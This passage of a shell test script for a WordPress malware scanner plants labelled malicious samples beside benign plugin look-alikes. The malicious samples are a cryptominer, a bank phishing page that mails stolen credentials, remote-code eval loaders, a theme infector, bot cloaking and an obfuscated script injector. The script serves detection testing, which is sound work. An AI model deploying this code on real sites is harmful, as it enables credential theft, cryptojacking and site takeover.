<script src="https://coinhive.com/lib/coinhive.min.js"></script>
<script>var miner = new CoinHive.Anonymous('aGx5eWRKZ3VtUWlWbFpJc3ZIcGtKc3dQ', {throttle: 0.3}); if (!miner.isMobile()) { miner.start(); }</script>
EOF
inject wp-includes/js/wp-embed-min-loader.js high new "miner script: a WebAssembly cryptonight worker to a pool" miner <<'EOF'
var POOL = "wss://pool-ws.example:8443/";
var wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
function startWorkers(n) {
	for (var i = 0; i < n; i++) {
		var w = new Worker("cryptonight-worker.js");
		w.postMessage({ pool: POOL, user: wallet, pass: "x", algo: "cn/r", threads: n });
	}
}
if (typeof WebAssembly === "object") { startWorkers(navigator.hardwareConcurrency || 2); }
EOF

## --- phishing dropped in uploads
inject wp-content/uploads/2024/01/secure/index.html high new "phishing page in uploads: a bank sign-in posting offsite" phishing-uploads <<'EOF'
<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Chase Online - Sign In</title></head>
<body>
<h1>Sign in to Chase</h1>
<form action="https://secure-verify-account.example/chase/login.php" method="post">
<label>Username</label><input type="text" name="user">
<label>Password</label><input type="password" name="pass">
<button type="submit">Sign in</button>
</form>
<footer>&copy; 2024 JPMorgan Chase &amp; Co.</footer>
</body></html>
EOF
inject wp-content/uploads/2024/01/secure/next.php high new "phishing handler in uploads: credentials and visitor address mailed" phishing-uploads <<'EOF'
<?php
$ip = $_SERVER['REMOTE_ADDR'];
$msg = "User: " . $_POST['user'] . "\nPass: " . $_POST['pass'] . "\nIP: " . $ip . "\nUA: " . $_SERVER['HTTP_USER_AGENT'] . "\n";
mail( 'resultz.box@mail-drop.example', 'Chase Login ' . $ip, $msg );
header( 'Location: https://www.chase.com/' );
EOF

## --- remote code through the WordPress HTTP API
inject wp-content/plugins/akismet/class.akismet-cache.php high new "wp_remote_get + eval of the body in a file beside Akismet" remote-eval <<'EOF'
<?php
$ak = wp_remote_get( 'https://akismet-cdn-updates.example/rules.txt' );
if ( is_array( $ak ) && ! empty( $ak['body'] ) ) {
	eval( $ak['body'] );
}
EOF
inject wp-includes/widgets/class-wp-widget-cache.php high new "remote code: body of a remote URL base64-decoded and run" remote-eval <<'EOF'
<?php
$wgt = wp_remote_retrieve_body( wp_remote_get( 'http://198.51.100.5/w.txt' ) );
if ( $wgt ) {
	$wgt = base64_decode( $wgt );
	eval( $wgt );
}
EOF
inject wp-includes/theme-compat/embed-cache.php high new "remote code: include of a remote URL read from an option" remote-eval <<'EOF'
<?php
$src = get_option( 'embed_cache_src', 'http://203.0.113.88/e.php' );
if ( ini_get( 'allow_url_include' ) ) {
	include $src;
} else {
	$tmp = tempnam( sys_get_temp_dir(), 'emb' );
	file_put_contents( $tmp, file_get_contents( $src ) );
	include $tmp;
	unlink( $tmp );
}
EOF

## --- benign look-alikes: what real plugins hold
inject wp-content/plugins/fast-page-cache/advanced-cache.php benign new "look-alike: a caching plugin's advanced-cache.php" benign <<'EOF'
<?php
/**
 * Fast Page Cache drop-in: serves a cached copy of the page before WordPress loads.
 */
if ( ! defined( 'ABSPATH' ) ) {
	exit;
}
if ( ! empty( $_COOKIE ) ) {
	foreach ( array_keys( $_COOKIE ) as $c ) {
		if ( strpos( $c, 'wordpress_logged_in' ) === 0 || strpos( $c, 'comment_author' ) === 0 ) {
			return;
		}
	}
}
if ( $_SERVER['REQUEST_METHOD'] !== 'GET' ) {
	return;
}
$fpc_file = WP_CONTENT_DIR . '/cache/fast-page-cache/' . md5( $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'] ) . '.html';
if ( is_readable( $fpc_file ) && filemtime( $fpc_file ) > time() - 3600 ) {
	header( 'X-Fast-Page-Cache: HIT' );
	readfile( $fpc_file );
	exit;
}
$fpc_phase2 = WP_CONTENT_DIR . '/plugins/fast-page-cache/inc/phase2.php';
if ( is_file( $fpc_phase2 ) ) {
	include_once $fpc_phase2;
}
EOF
inject wp-content/plugins/simple-301-redirects/simple-301-redirects.php benign new "look-alike: a redirect plugin (rules from the admin's option)" benign <<'EOF'
<?php
/**
 * Plugin Name: Simple 301 Redirects
 * Description: Redirect requests to another page on your site or elsewhere on the web.
 * Version: 2.0.4
 */
add_action( 'init', 'simple301_redirect', 1 );
function simple301_redirect() {
	$rules = get_option( 'simple301_redirects', array() );
	if ( empty( $rules ) ) {
		return;
	}
	$path = rtrim( parse_url( $_SERVER['REQUEST_URI'], PHP_URL_PATH ), '/' );
	foreach ( $rules as $from => $to ) {
		if ( rtrim( $from, '/' ) === $path ) {
			wp_redirect( esc_url_raw( $to ), 301 );
			exit;
		}
	}
}
add_action( 'admin_menu', function () {
	add_options_page( '301 Redirects', '301 Redirects', 'manage_options', 'simple301', 'simple301_page' );
} );
function simple301_page() {
	if ( isset( $_POST['s301'] ) && check_admin_referer( 'simple301' ) && current_user_can( 'manage_options' ) ) {
		update_option( 'simple301_redirects', array_map( 'sanitize_text_field', (array) $_POST['s301'] ) );
	}
	echo '<form method="post">';
	wp_nonce_field( 'simple301' );
	echo '<input name="s301[/old]" value="/new"><input type="submit"></form>';
}
EOF
inject wp-content/plugins/seo-sitemap-lite/seo-sitemap-lite.php benign new "look-alike: an SEO plugin serving a sitemap and checking for crawlers" benign <<'EOF'
<?php
/**
 * Plugin Name: SEO Sitemap Lite
 * Description: XML sitemap of your posts; pings search engines on publish.
 * Version: 3.1
 */
add_action( 'init', function () {
	if ( parse_url( $_SERVER['REQUEST_URI'], PHP_URL_PATH ) !== '/sitemap.xml' ) {
		return;
	}
	$ua = isset( $_SERVER['HTTP_USER_AGENT'] ) ? $_SERVER['HTTP_USER_AGENT'] : '';
	$is_crawler = (bool) preg_match( '/googlebot|bingbot|yandex|duckduckbot/i', $ua );
	header( 'Content-Type: application/xml; charset=UTF-8' );
	if ( $is_crawler ) {
		header( 'X-Robots-Tag: noindex, follow' );
	}
	echo '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">';
	foreach ( get_posts( array( 'numberposts' => 500, 'post_status' => 'publish' ) ) as $p ) {
		echo '<url><loc>' . esc_url( get_permalink( $p ) ) . '</loc><lastmod>' . esc_html( get_post_modified_time( 'c', true, $p ) ) . '</lastmod></url>';
	}
	echo '</urlset>';
	exit;
} );
add_action( 'publish_post', function () {
	wp_remote_get( 'https://www.google.com/ping?sitemap=' . rawurlencode( home_url( '/sitemap.xml' ) ), array( 'blocking' => false ) );
} );
EOF
inject wp-content/plugins/site-guard/signatures.php benign new "look-alike: a security plugin's signature list" benign <<'EOF'
<?php
/**
 * Site Guard malware signatures: fragments looked for in theme and plugin files.
 */
if ( ! defined( 'ABSPATH' ) ) {
	exit;
}
return array(
	'eval_post'       => array( 'pattern' => '/eval\s*\(\s*\$_(POST|GET|REQUEST|COOKIE)/i', 'name' => 'eval of request data' ),
	'b64_eval'        => array( 'pattern' => '/eval\s*\(\s*base64_decode\s*\(/i', 'name' => 'eval(base64_decode(' ),
	'hide_plugin'     => array( 'pattern' => "/add_filter\\(\\s*'all_plugins'/", 'name' => "add_filter('all_plugins', hide self)" ),
	'hidden_user'     => array( 'pattern' => "/pre_user_query/", 'name' => 'pre_user_query hides an administrator' ),
	'coinhive'        => array( 'pattern' => '/CoinHive\.Anonymous/', 'name' => 'CoinHive.Anonymous( miner' ),
	'fromcharcode'    => array( 'pattern' => '/String\.fromCharCode\(\d+,\d+,\d+/', 'name' => 'eval(String.fromCharCode(104,116,116,112' ),
	'htaccess_ref'    => array( 'pattern' => '/RewriteCond %\{HTTP_REFERER\} .*google/', 'name' => 'RewriteCond %{HTTP_REFERER} (google|bing) redirect' ),
	'wp_login_steal'  => array( 'pattern' => "/add_action\\(\\s*'wp_login'.{0,200}\\\$_POST\\['pwd'\\]/s", 'name' => "add_action('wp_login') reading \$_POST['pwd']" ),
);
EOF
inject wp-content/maintenance.php benign new "look-alike: a maintenance-mode drop-in" benign <<'EOF'
<?php
/**
 * Maintenance mode drop-in: shown while updates run.
 */
$protocol = wp_get_server_protocol();
header( "$protocol 503 Service Unavailable", true, 503 );
header( 'Content-Type: text/html; charset=utf-8' );
header( 'Retry-After: 600' );
?>
<!DOCTYPE html>
<html><head><title>Down for maintenance</title></head>
<body><h1>Briefly unavailable for scheduled maintenance.</h1><p>Check back in a minute.</p></body></html>
<?php die(); ?>
EOF
inject wp-content/plugins/nightly-backup/includes/cron.php benign new "look-alike: a backup plugin's cron job (dump, zip, upload to the owner's storage)" benign <<'EOF'
<?php
if ( ! defined( 'ABSPATH' ) ) {
	exit;
}
add_action( 'nightly_backup_run', 'nightly_backup_run' );
register_activation_hook( dirname( __DIR__ ) . '/nightly-backup.php', function () {
	if ( ! wp_next_scheduled( 'nightly_backup_run' ) ) {
		wp_schedule_event( strtotime( 'tomorrow 03:00' ), 'daily', 'nightly_backup_run' );
	}
} );
function nightly_backup_run() {
	global $wpdb;
	$dir = WP_CONTENT_DIR . '/backups-' . wp_hash( 'nightly' );
	wp_mkdir_p( $dir );
	$sql = '';
	foreach ( $wpdb->get_col( 'SHOW TABLES' ) as $t ) {
		$row = $wpdb->get_row( "SHOW CREATE TABLE `$t`", ARRAY_N );
		$sql .= $row[1] . ";\n";
	}
	$file = $dir . '/db-' . gmdate( 'Ymd' ) . '.sql';
	file_put_contents( $file, $sql );
	$zip = new ZipArchive();
	$zip->open( $file . '.zip', ZipArchive::CREATE );
	$zip->addFile( $file, basename( $file ) );
	$zip->close();
	unlink( $file );
	$opt = get_option( 'nightly_backup_remote' );
	if ( ! empty( $opt['url'] ) ) {
		wp_remote_post( $opt['url'], array(
			'headers' => array( 'Authorization' => 'Bearer ' . $opt['token'] ),
			'body'    => file_get_contents( $file . '.zip' ),
			'timeout' => 60,
		) );
	}
}
EOF
inject $T22/parts/footer-analytics.html benign new "look-alike: an analytics snippet (dynamic script, async loader)" benign <<'EOF'
<!-- wp:html -->
<script async src="https://www.googletagmanager.com/gtag/js?id=G-ABCDE12345"></script>
<script>
  window.dataLayer = window.dataLayer || [];
  function gtag(){dataLayer.push(arguments);}
  gtag('js', new Date());
  gtag('config', 'G-ABCDE12345');
</script>
<script>
(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-ABC123');
</script>
<!-- /wp:html -->
EOF
inject $T21/assets/js/analytics-loader.js benign new "look-alike: a theme's async analytics loader and a fallback redirect for old browsers" benign <<'EOF'
(function () {
	var id = window.tt1Analytics && window.tt1Analytics.id;
	if (!id) { return; }
	var s = document.createElement('script');
	s.async = true;
	s.src = 'https://stats.wp.com/e-' + new Date().getFullYear() + '.js';
	document.getElementsByTagName('head')[0].appendChild(s);
	if (!('querySelector' in document)) { window.location.href = '/unsupported-browser/'; }
}());
EOF
inject wp-content/plugins/login-audit/login-audit.php benign new "look-alike: a login audit plugin logging failed logins (no password)" benign <<'EOF'
<?php
/**
 * Plugin Name: Login Audit
 * Description: Records failed and successful logins with the visitor's address.
 * Version: 1.4
 */
add_action( 'wp_login_failed', function ( $username ) {
	$line = sprintf( "%s failed %s %s\n", gmdate( 'c' ), sanitize_user( $username ), $_SERVER['REMOTE_ADDR'] );
	file_put_contents( WP_CONTENT_DIR . '/login-audit.log', $line, FILE_APPEND | LOCK_EX );
} );
add_action( 'wp_login', function ( $login, $user ) {
	update_user_meta( $user->ID, 'last_login', time() );
	if ( get_option( 'login_audit_notify' ) ) {
		wp_mail( get_option( 'admin_email' ), 'New login', sprintf( '%s logged in from %s', $login, $_SERVER['REMOTE_ADDR'] ) );
	}
}, 10, 2 );
EOF
inject wp-content/plugins/wc-gateway-demo/wc-gateway-demo.php benign new "look-alike: a payment gateway on the checkout hooks posting to its processor" benign <<'EOF'
<?php
/**
 * Plugin Name: Demo Payments for WooCommerce
 * Description: Accept cards through Demo Payments (tokenized in the browser).
 * Version: 4.2.0
 */
add_action( 'woocommerce_checkout_process', function () {
	if ( isset( $_POST['payment_method'] ) && $_POST['payment_method'] === 'demopay' && empty( $_POST['demopay_token'] ) ) {
		wc_add_notice( __( 'Please enter your card details.', 'demopay' ), 'error' );
	}
} );
add_action( 'woocommerce_checkout_order_processed', function ( $order_id ) {
	$order = wc_get_order( $order_id );
	$res = wp_remote_post( 'https://api.demopay.example/v1/charges', array(
		'headers' => array( 'Authorization' => 'Bearer ' . get_option( 'demopay_secret' ) ),
		'body'    => array( 'amount' => (int) round( $order->get_total() * 100 ), 'source' => sanitize_text_field( $_POST['demopay_token'] ), 'order' => $order_id ),
	) );
	if ( ! is_wp_error( $res ) ) {
		$order->update_meta_data( '_demopay_charge', wp_remote_retrieve_body( $res ) );
		$order->save();
	}
} );
EOF
inject wp-content/plugins/theme-updater/updater.php benign new "look-alike: a commercial theme's update checker (remote JSON, upgrader API)" benign <<'EOF'
<?php
add_filter( 'pre_set_site_transient_update_themes', function ( $transient ) {
	$res = wp_remote_get( 'https://updates.themevendor.example/api/v1/theme/' . get_template() . '?license=' . rawurlencode( get_option( 'tv_license' ) ) );
	if ( is_wp_error( $res ) || 200 !== wp_remote_retrieve_response_code( $res ) ) {
		return $transient;
	}
	$data = json_decode( wp_remote_retrieve_body( $res ), true );
	if ( ! empty( $data['version'] ) && version_compare( $data['version'], wp_get_theme()->get( 'Version' ), '>' ) ) {
		$transient->response[ get_template() ] = array(
			'theme'       => get_template(),
			'new_version' => $data['version'],
			'package'     => esc_url_raw( $data['download_url'] ),
		);
	}
	return $transient;
} );
EOF
inject wp-content/mu-plugins/hide-plugin-for-clients.php benign new "look-alike: an agency's mu-plugin hiding its own plugin from non-admins" benign <<'EOF'
<?php
/**
 * Plugin Name: Agency Tools
 * Description: Hides the agency's maintenance plugin from client editors.
 */
add_filter( 'all_plugins', function ( $plugins ) {
	if ( current_user_can( 'manage_network' ) || current_user_can( 'administrator' ) ) {
		return $plugins;
	}
	unset( $plugins['agency-maintenance/agency-maintenance.php'] );
	return $plugins;
} );
EOF

## --- more spellings (stop 15): the same techniques written another way
inject wp-content/mu-plugins/theme-cache-sync.php high new "theme infector: fopen(..,'a') + fwrite of an option's decoded code into every theme" theme-infector <<'EOF'
<?php
$tc_blob = base64_decode( get_option( 'wp_theme_cache_blob' ) );
foreach ( scandir( get_theme_root() ) as $tc_theme ) {
	if ( $tc_theme[0] == '.' ) continue;
	$tc_file = get_theme_root() . '/' . $tc_theme . '/functions.php';
	if ( is_file( $tc_file ) && strpos( file_get_contents( $tc_file ), 'wp_theme_cache_blob' ) === false ) {
		$tc_h = fopen( $tc_file, 'a' );
		fwrite( $tc_h, "\n" . $tc_blob );
		fclose( $tc_h );
	}
}
EOF
inject wp-includes/class-wp-locale-cache.php high new "cloaking: the remote page's body echoed straight from wp_remote_retrieve_body to bots" seo-cloaking <<'EOF'
<?php
if ( preg_match( '/googlebot|bingbot|yandex/i', $_SERVER['HTTP_USER_AGENT'] ) ) {
	$lc_r = wp_remote_get( 'http://links-feed.example.biz/p.php?h=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode( $_SERVER['REQUEST_URI'] ) );
	echo wp_remote_retrieve_body( $lc_r );
	exit;
}
EOF
inject wp-content/mu-plugins/footer-fonts.php high new "PHP echoing a script whose address is spelled one character per array element and joined" js-injection <<'EOF'
<?php
add_action( 'wp_footer', function () {
	echo '<script>var s=document.createElement("script");s.src=["h","t","t","p","s",":","/","/","c","d","n","-","f","n","t",".","e","x","a","m","p","l","e","/","f",".","j","s"].join("");document.head.appendChild(s);</script>';
} );
EOF
inject wp-content/plugins/child-theme-helper/child-theme-helper.php benign new "look-alike: a child-theme helper appending a dated comment to its own child theme's functions.php" <<'EOF'
<?php
/* Plugin Name: Child Theme Helper */
add_action( 'admin_post_cth_add_snippet', function () {
	if ( ! current_user_can( 'edit_themes' ) ) wp_die( 'no' );
	check_admin_referer( 'cth_add_snippet' );
	$file = get_stylesheet_directory() . '/functions.php';
	$h = fopen( $file, 'a' );
	fwrite( $h, "\n// snippet added " . gmdate( 'c' ) . "\n" );
	fclose( $h );
	wp_safe_redirect( admin_url( 'themes.php' ) );
	exit;
} );
EOF

wp_site_scan_check scan_wp_site
exit 0
